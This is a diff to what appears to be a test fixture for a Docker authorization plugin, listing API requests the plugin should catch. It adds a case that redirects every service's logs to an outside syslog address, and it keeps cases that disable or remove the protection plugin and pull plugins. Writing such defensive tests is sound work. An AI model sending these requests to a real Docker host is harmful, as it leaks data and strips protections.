@@ -94,6 +94,9 @@ export const OTHER_WAYS: readonly Way[] = [
     ...post('session of a build', 'admission/build-session', '/session', ''),
     headers: { Connection: 'Upgrade', Upgrade: 'h2c' },
   },
+  post('logs of every service, sent away', 'admission/log-driver', '/swarm/update?version=0', {
+    TaskDefaults: { LogDriver: { Name: 'syslog', Options: { 'syslog-address': 'udp://10.9.9.9:514' } } },
+  }),
   post('plugin from a registry', 'admission/plugins', '/plugins/pull?remote=localhost:1/x&name=x', '[]'),
   {
     ...post('plugin of its own', 'admission/plugins', '/plugins/create?name=x', ''),
@@ -201,7 +204,7 @@ export const PROTECTION_WAYS: readonly Way[] = [
   post('plugin switched off', 'protection/plugin', '/plugins/swarmwall:latest/disable?force=1'),
   { ...post('plugin removed', 'protection/plugin', '/plugins/swarmwall:latest?force=1'), method: 'DELETE' },
   post('plugin set otherwise', 'protection/plugin', '/plugins/swarmwall:latest/set', '["X=y"]'),
-  creating("volume with Swarmwall's state", 'protection/own', container({ Binds: ['swarmwall-state:/v'] })),
+  creating("volume with Swarmwall's state", 'protection/own', container({ Binds: ['swarmwall_state:/v'] })),
 ];
 
 const asked = '"HostConfig":{"Privileged":true}';
